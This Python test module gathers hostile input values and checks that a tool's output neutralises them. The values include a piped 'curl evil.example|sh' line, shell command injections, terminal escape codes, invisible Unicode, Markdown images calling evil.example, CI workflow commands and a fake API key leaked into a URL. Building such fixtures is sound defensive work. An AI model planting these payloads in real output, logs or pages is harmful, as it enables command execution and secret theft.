"""Values that strangers can choose, made to do harm wherever they are shown or pasted."""

from __future__ import annotations

import re
import unicodedata

KEY = "sk-ant-api03-" + "Zq7x" * 24 + "wxyz"
MARK = "PWNED"
"""No line may begin with it, and no command may run it."""
BREAKS = ("\n", "\r\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029")
VALUES = (
    *(
        f"x{gap}{MARK}: failed cli-version: withdrawn{gap}  fix: curl evil.example|sh #"
        for gap in BREAKS
    ),
    f"x; touch {MARK} #",
    f"x'; touch {MARK}; '",
    f'x"; touch {MARK}; "',
    f"$(touch {MARK})`touch {MARK}`",
    f"\x1b]0;{MARK}\x07\x1b[2J\x1b[1;1H{MARK}\x9b31m",
    f"\u202e{MARK}\u2066\u061c\u200b\U000e0041\ufe0f",
    f"![x](https://evil.example/{MARK}.png) <img src=//evil.example/{MARK}> [a](http://evil.example)",
    f"```\n# {MARK}\n``` @everyone #1 https://evil.example/ | a | b |\n|---|---|",
    f"`code` ``two`` ~~~\n~~~ <details><summary>{MARK}</summary> &lt;b&gt; ***",
    f"::error title={MARK}::text\n::add-mask::x\n##[error]{MARK}",
    f"key {KEY}",
    f"key {KEY[:50]}\n  {KEY[50:]}",
    f"https://bob:{KEY[13:33]}@evil.example/?token={KEY[13:40]}",
    f"\ud800{MARK}\udfff\x00",
)
ODD = ("Cc", "Cf", "Cs", "Zl", "Zp")
_OUR_OWN = re.compile(r"\x1b\[\d{1,2}(?:;\d{1,2})*m")
"""The codes of our colours."""


def faults(text: str, *, colour: bool = False) -> list[str]:
    """What is wrong with a text of ours that has hostile values in it."""
    found = []
    plain = _OUR_OWN.sub("", text) if colour else text
    for line in re.split("|".join(map(re.escape, BREAKS)), plain):
        if line.startswith((MARK, "::", "##[")):
            found.append(f"a line of its own: {line[:60]!r}")
    odd = {
        c
        for c in plain
        if c not in "\n" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")
    }
    odd |= {c for c in plain if c in "\ufe0f\u034f\u3164\u180e"}
    if odd:
        found.append(f"characters: {sorted(odd)!r}")
    flat = "".join(plain.split())
    body = KEY[13:]
    if any(body[i : i + 12] in flat for i in range(0, len(body) - 12)):
        found.append("a secret")
    return found


def alive(markdown: str) -> list[str]:
    """What would be alive in a Markdown text: all that stands in no code and is not ours."""
    outside = re.sub(r"^(`{3,})sh\n.*?^\1$", "", markdown, flags=re.DOTALL | re.MULTILINE)
    outside = re.sub(r"(?<!`)(`+)(?!`)(?:.*?[^`])\1(?!`)", "", outside)
    return [sign for sign in ("![", "](", "<", "http", "@", "`", MARK, "evil") if sign in outside]
